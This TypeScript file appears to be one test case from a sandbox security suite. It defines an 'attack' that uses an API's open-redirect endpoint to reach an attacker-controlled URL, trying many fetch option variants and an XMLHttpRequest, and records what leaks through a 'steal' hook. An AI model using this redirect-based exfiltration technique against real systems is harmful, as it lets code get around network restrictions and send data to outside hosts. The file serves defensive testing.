import { attack } from "../attack.js";

export default attack({
  name: "uses an open redirect of the API to its own server",
  threat: "single-execution theft",
  target: "any",
  async payload(it) {
    for (const home of [it.attackerUrl, it.siblingUrl]) {
      for (const base of [it.apiUrl, it.ownApiUrl]) {
        if (!base) continue;
        const url = `${base}redirect?${new URLSearchParams({ to: `${home}/landed` })}`;
        for (const init of [
          {},
          { mode: "no-cors" },
          { method: "POST", body: "x" },
          { redirect: "manual" },
          { headers: { authorization: "Bearer x" } },
          { credentials: "include" },
          { keepalive: true },
          { cache: "reload" },
        ] as RequestInit[]) {
          const response = await fetch(url, init).catch(() => undefined);
          it.steal(response?.url, [...(response?.headers ?? [])]);
        }
        const request = new XMLHttpRequest();
        request.open("GET", url);
        request.send();
      }
    }
    await it.pause(200);
  },
});
